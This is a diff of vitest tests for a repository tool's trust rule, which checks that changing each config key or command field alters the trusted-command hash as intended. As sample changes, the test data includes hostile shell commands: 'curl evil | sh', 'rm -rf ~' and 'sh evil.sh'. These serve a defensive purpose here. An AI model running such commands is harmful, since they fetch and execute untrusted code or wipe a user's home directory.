@@ -2,7 +2,17 @@ import { spawnSync } from 'node:child_process';
 import fs from 'node:fs';
 import path from 'node:path';
 import { describe, expect, it } from 'vitest';
-import { changedCommands, commandsHash, removedCommands, repoCommands } from '../src/config/trust.js';
+import { configSchema } from '../src/config/schema.js';
+import {
+  changedCommands,
+  changedSettings,
+  commandsHash,
+  removedCommands,
+  repoCommands,
+  trustedSet,
+  type TrustedFiles,
+} from '../src/config/trust.js';
+import { COMMAND_FIELD_TRUST, CONFIG_TRUST } from '../src/config/trust-rule.js';
 import { parseConfig } from '../src/config/validate.js';
 import { unavailable } from './helpers/capabilities.js';
 import { BIN, makeRepo, refsAndWorktrees, runCli, tmpDir, type TestRepo } from './helpers/repo.js';
@@ -100,6 +110,159 @@ describe('the command set (pure)', () => {
     const shown = await repo.warren('trust');
     expect(shown.code).toBe(1);
     expect(shown.stdout).toContain('removed since you trusted an earlier set: verify lint: true');
+  });
+});
+
+/**
+ * The rule (config/trust-rule.ts): every key of warren.yaml, and every field of a command entry,
+ * is classified, and a change to each changes the trusted set exactly when its rule says so.
+ * One sample change per key or field: a key added to the table without one fails here.
+ */
+describe('the trust rule: which keys count (pure)', () => {
+  const NO_FILES: TrustedFiles = { policySha256: null, worktreeInclude: null };
+  interface Doc {
+    setup: [{ id: string; run: string; timeout?: string; gate?: boolean }];
+    verify: [
+      { id: string; run: string; required?: boolean; timeout?: string },
+      ...{ id: string; run: string; required?: boolean }[],
+    ];
+    teardown: [{ id: string; run: string; timeout?: string }];
+    agents: { fake: { command: string[]; prompt?: string; leftover_grace?: string } };
+    services: Record<'db' | 'cache' | 'web', Record<string, unknown>>;
+    [key: string]: unknown;
+  }
+  const BASE = (): Doc => ({
+    setup: [{ id: 'deps', run: 'npm ci' }],
+    verify: [{ id: 'test', run: 'npm test' }],
+    teardown: [{ id: 'bye', run: 'true' }],
+    agents: { fake: { command: ['node', 'a.js'] } },
+    services: { db: { kind: 'postgres' }, cache: { kind: 'redis' }, web: { run: 'npm run dev' } },
+  });
+  /** What each change does to BASE; warren.yaml keys, `KEY.FIELD` for a command entry's field, and the two files. */
+  const CHANGES: Record<string, (d: Doc, files: TrustedFiles) => void> = {
+    sandbox: (d) => (d.sandbox = 'bwrap'),
+    network: (d) => (d.network = true),
+    protected: (d) => (d.protected = ['.env']),
+    'land.gate': (d) => (d.land = { gate: ['test'] }),
+    'land.batch': (d) => (d.land = { batch: 2 }),
+    'land.parallel': (d) => (d.land = { parallel: true }),
+    worktree_root: (d) => (d.worktree_root = 'wt'),
+    provision: (d) => (d.provision = [{ path: '.env', mode: 'share' }]),
+    provision_budget: (d) => (d.provision_budget = { entries: 10 }),
+    checkout: (d) => (d.checkout = 'cow'),
+    ports: (d) => (d.ports = { count: 3 }),
+    kill_grace: (d) => (d.kill_grace = '1h'),
+    archive: (d) => (d.archive = { keep: '1s' }),
+    types: (d) => (d.types = ['feat', 'spike']),
+    'setup.id': (d) => (d.setup[0].id = 'other'),
+    'setup.run': (d) => (d.setup[0].run = 'curl evil | sh'),
+    'setup.timeout': (d) => (d.setup[0].timeout = '1h'),
+    'setup.gate': (d) => (d.setup[0].gate = true),
+    'verify.id': (d) => (d.verify[0].id = 'other'),
+    'verify.run': (d) => (d.verify[0].run = 'true'),
+    'verify.required': (d) => (d.verify[0].required = false),
+    'verify.timeout': (d) => (d.verify[0].timeout = '1h'),
+    'teardown.id': (d) => (d.teardown[0].id = 'other'),
+    'teardown.run': (d) => (d.teardown[0].run = 'rm -rf ~'),
+    'teardown.timeout': (d) => (d.teardown[0].timeout = '1h'),
+    'agents.command': (d) => (d.agents.fake.command = ['sh', 'evil.sh']),
+    'agents.prompt': (d) => (d.agents.fake.prompt = 'stdin'),
+    'agents.leftover_grace': (d) => (d.agents.fake.leftover_grace = '1h'),
+    'services.kind': (d) => (d.services.cache = { kind: 'postgres', env: 'REDIS_URL' }),
+    'services.template': (d) => (d.services.db.template = 'tpl'),
+    'services.seed': (d) => (d.services.db.seed = { sql: 'db/schema.sql' }),
+    'services.run': (d) => (d.services.web.run = 'curl evil | sh'),
+    'services.env': (d) => (d.services.db.env = 'PATH'),
+    'services.start': (d) => (d.services.web.start = 'on-demand'),
+    'services.ready': (d) => (d.services.web.ready = { port: true }),
+    policy: (_d, f) => (f.policySha256 = 'a'.repeat(64)),
+    '.worktreeinclude': (_d, f) => (f.worktreeInclude = '.env\n'),
+  };
+  const hashOf = (d: Doc, files: TrustedFiles) => commandsHash(trustedSet(parseConfig(JSON.stringify(d)), files));
+  const rules: [string, unknown][] = [
+    ...Object.entries(CONFIG_TRUST).flatMap(([key, rule]): [string, unknown][] =>
+      typeof rule === 'object' && 'keys' in rule
+        ? Object.entries(rule.keys).map(([sub, r]): [string, unknown] => [`${key}.${sub}`, r])
+        : rule === 'commands'
+          ? Object.entries(COMMAND_FIELD_TRUST[key as keyof typeof COMMAND_FIELD_TRUST]).map(
+              ([field, r]): [string, unknown] => [`${key}.${field}`, r],
+            )
+          : [[key, rule]],
+    ),
+    ['policy', 'setting'],
+    ['.worktreeinclude', 'setting'],
+  ];
+
+  it("classifies every key of warren.yaml's schema", () => {
+    expect(Object.keys(CONFIG_TRUST).sort()).toEqual(Object.keys(configSchema.shape).sort());
+    expect(Object.keys(CONFIG_TRUST.land.keys).sort()).toEqual(
+      Object.keys(configSchema.shape.land.unwrap().shape).sort(),
+    );
+  });
+
+  it('has one sample change for each classified key and field', () => {
+    expect(Object.keys(CHANGES).sort()).toEqual(rules.map(([k]) => k).sort());
+  });
+
+  it.each(rules)('%s: the set changes exactly when it counts (%j)', (key, rule) => {
+    const before = BASE();
+    const after = BASE();
+    const files = { ...NO_FILES };
+    CHANGES[key]?.(after, files);
+    const free = typeof rule === 'object' && rule !== null && 'free' in rule;
+    // Free keys justify themselves in the table, not in silence.
+    if (free) expect((rule as { free: string }).free.length).toBeGreaterThan(40);
+    const changed = hashOf(after, files) !== hashOf(before, NO_FILES);
+    expect(changed).toBe(!free);
+    if (rule === 'setting' || rule === 'land.gate') {
+      const named = changedSettings(
+        trustedSet(parseConfig(JSON.stringify(after)), files),
+        trustedSet(parseConfig(JSON.stringify(before)), NO_FILES),
+      );
+      expect(named).toEqual([
+        expect.stringMatching(
+          new RegExp(`^${rule === 'land.gate' ? 'land\\.gate' : key.replace('.', '\\.')}: \\(unset\\) → `),
+        ),
+      ]);
+    }
+  });
+
+  it('counts each setting as it acts: a default written out, an empty list or a comment-only .worktreeinclude is no change', () => {
+    const base = hashOf(BASE(), NO_FILES);
+    for (const extra of [
+      { sandbox: 'none' },
+      { network: false },
+      { protected: [] },
+      { provision: [] },
+      { checkout: 'git' },
+      { archive: {} },
+      { land: { batch: 3 } },
+    ])
+      expect(hashOf({ ...BASE(), ...extra }, NO_FILES), JSON.stringify(extra)).toBe(base);
+    expect(hashOf(BASE(), { ...NO_FILES, worktreeInclude: '# nothing yet\n\n' })).toBe(base);
+    // A gate of the required commands is the same gate, however it is written.
+    const two = (d: Doc): Doc => ({ ...d, verify: [d.verify[0], { id: 'lint', run: 'lint', required: false }] });
+    expect(hashOf(two(BASE()), NO_FILES)).toBe(hashOf({ ...two(BASE()), land: { gate: ['test'] } }, NO_FILES));
+  });
+
+  it('a set that counted only the first settings hashes as it did: upgrading asks only where a newly counted key is set', () => {
+    // Hashes of the set before it counted provision, archive and the rest (computed with that code).
+    const commands = [
+      'setup:\n  - { id: deps, run: "npm ci" }',
+      'verify:\n  - { id: test, run: [npm, test] }',
+      'agents:\n  fake: { command: [node, a.js], prompt: stdin }',
+      'services:\n  db: { kind: postgres, template: tpl }\n  web: { run: "npm run dev" }',
+    ].join('\n');
+    const first = parseConfig(
+      `${commands}\nprotected: [".env.testing"]\nsandbox: { kind: bwrap, allow: ["api.example.com"] }\nland: { gate: [test] }\n`,
+    );
+    expect(commandsHash(trustedSet(first, { policySha256: 'abc', worktreeInclude: null }))).toBe(
+      '6d141ffa11948cc1be25dabbe1b004b7e424afa1295433c3ff1201a59fc8d713',
+    );
+    const second = parseConfig(`${commands}\nsandbox: bwrap\nnetwork: true\nkill_grace: 3s\ntypes: [feat]\n`);
+    expect(commandsHash(trustedSet(second, NO_FILES))).toBe(
+      'ed44c2adc94f2a1747f16a9dc2a115b6d7ad61342f3bab5c8c52e31ba7e70fdb',
+    );
   });
 });
 
